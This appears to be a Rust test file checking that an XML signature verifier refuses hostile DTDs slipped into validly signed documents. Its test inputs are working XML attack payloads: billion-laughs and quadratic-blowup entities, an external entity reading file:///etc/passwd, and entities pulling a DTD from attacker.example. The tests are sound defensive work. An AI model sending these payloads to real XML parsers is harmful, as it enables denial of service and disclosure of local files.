//! Hostile XML costs the portal nothing: a DTD slipped into a validly signed document is
//! refused by name, though C14N would drop it and the signature would otherwise still verify.

mod common;

use common::*;
use qoltanba_core::sign::xml::{Refusal, XmlLayout, MAX_DEPTH};
use qoltanba_verify::{Purpose, VerifyError};
use time::OffsetDateTime;

const XML: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<request xmlns=\"urn:egov\"><iin>123456789011</iin><sum>100</sum></request>";

/// A document signed by the core, then given `dtd` between the XML declaration and the root.
fn signed_with(dtd: &str) -> String {
    let signed = sign_xml("individual_sign", XML, XmlLayout::Compact);
    let hostile = signed.replacen("?>\n", &format!("?>\n{dtd}\n"), 1);
    assert_ne!(hostile, signed, "the DTD went in");
    hostile
}

fn assert_refused(xml: &str, expected: Refusal) {
    let err = verifier()
        .verify_xml(xml, Purpose::Unknown, OffsetDateTime::now_utc())
        .unwrap_err();
    assert!(
        matches!(&err, VerifyError::Malformed(why) if why.contains(&expected.to_string())),
        "{err}"
    );
}

fn billion_laughs_dtd() -> String {
    let mut dtd = String::from("<!ENTITY lol0 \"lol\">");
    for i in 1..10 {
        let refs = format!("&lol{};", i - 1).repeat(10);
        dtd.push_str(&format!("<!ENTITY lol{i} \"{refs}\">"));
    }
    format!("<!DOCTYPE request [{dtd}]>")
}

#[test]
fn signed_xml_carrying_billion_laughs_is_refused() {
    assert_refused(
        &signed_with(&billion_laughs_dtd()),
        Refusal::EntityDeclarations,
    );
    // Referenced, too: refused at the declaration, before any expansion.
    let expanding = format!("{}<request>&lol9;</request>", billion_laughs_dtd());
    assert_refused(&expanding, Refusal::EntityDeclarations);
}

#[test]
fn xml_with_a_quadratic_blowup_entity_is_refused_before_any_expansion() {
    let dtd = format!(
        "<!DOCTYPE request [<!ENTITY a \"{}\">]>",
        "A".repeat(100_000)
    );
    assert_refused(&signed_with(&dtd), Refusal::EntityDeclarations);
    let expanding = format!("{dtd}<request>{}</request>", "&a;".repeat(100_000));
    assert_refused(&expanding, Refusal::EntityDeclarations);
}

#[test]
fn signed_xml_with_an_external_entity_cannot_read_a_local_file() {
    let dtd = "<!DOCTYPE request [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>";
    assert_refused(&signed_with(dtd), Refusal::EntityDeclarations);
}

#[test]
fn signed_xml_with_a_parameter_entity_cannot_pull_in_an_external_dtd() {
    let dtd = "<!DOCTYPE request [<!ENTITY % p SYSTEM \"http://attacker.example/evil.dtd\"> %p;]>";
    assert_refused(&signed_with(dtd), Refusal::EntityDeclarations);
}

#[test]
fn signed_xml_naming_an_external_dtd_is_refused() {
    let dtd = "<!DOCTYPE request SYSTEM \"http://attacker.example/evil.dtd\">";
    assert_refused(&signed_with(dtd), Refusal::Doctype);
}

#[test]
fn xml_nested_deeper_than_the_limit_is_refused() {
    let depth = MAX_DEPTH as usize + 1;
    let xml = format!("{}{}", "<e>".repeat(depth), "</e>".repeat(depth));
    assert_refused(&xml, Refusal::TooDeep);
}

#[test]
fn the_signed_control_without_a_dtd_still_verifies() {
    let signed = sign_xml("individual_sign", XML, XmlLayout::Compact);
    verifier()
        .verify_xml(&signed, Purpose::Unknown, OffsetDateTime::now_utc())
        .expect("verifies");
}
